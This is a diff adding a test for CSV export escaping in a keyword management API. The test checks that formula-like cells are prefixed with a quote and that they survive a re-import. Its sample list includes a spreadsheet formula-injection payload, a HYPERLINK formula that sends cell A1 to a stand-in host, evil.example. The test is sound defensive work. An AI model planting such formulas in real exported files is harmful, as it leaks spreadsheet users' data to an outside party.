@@ -217,3 +217,41 @@ describe('an export of more than ten thousand keywords', async () => {
     assert.equal(parse(file, { delimiter: ';' }).length, 3)
   })
 })
+
+/** Texts that a spreadsheet would run, as OWASP lists them, and others that only look like them. */
+const FORMULAS = [
+  '=hyperlink("http://evil.example/"&a1;"click")',
+  '+49 30 1',
+  '-rye bread',
+  '@sum(1+1)',
+  '＝1+1',
+]
+const HARMLESS = ['-1', '+7', '-0.5', 'rye = bread', "'quoted'", "baker's"]
+
+test('for people, no cell is a formula, numbers stay, and an import gives the same keywords', async () => {
+  const other = await newProject()
+  const lines = [...FORMULAS, ...HARMLESS].map((name) => `"${name.replaceAll('"', '""')}"`)
+  await call('add/keywords_2/keywords/import', { project_id: other, keywords: ['name', ...lines].join('\n') })
+  const request = {
+    project_id: other,
+    output: 'csvUTF8',
+    fields: ['name', 'group_name'],
+    show_fields_names: 1,
+    orders: [{ name: 'id', direction: 'ASC' }],
+  }
+  const namesIn = (text: string) => {
+    const rows: { name: string }[] = parse(text, { delimiter: ';', columns: true, record_delimiter: '\r\n' })
+    return rows.map(({ name }) => name)
+  }
+  const { text: raw } = await post('get/keywords_2/keywords/export', request)
+  assert.deepEqual(namesIn(raw).toSorted(), [...FORMULAS, ...HARMLESS].toSorted())
+  const { text } = await post('get/keywords_2/keywords/export', { ...request, without_formulas: 1 })
+  assert.deepEqual(namesIn(text).toSorted(), [...FORMULAS.map((name) => `'${name}`), ...HARMLESS].toSorted())
+  const again = await newProject()
+  await call('add/keywords_2/keywords/import', { project_id: again, keywords: text })
+  const rows = await call('get/keywords_2/keywords', { project_id: again, fields: ['name'] })
+  assert.deepEqual(
+    rows.map(({ name }: { name: string }) => name).toSorted(),
+    [...FORMULAS, ...HARMLESS].toSorted(),
+  )
+})
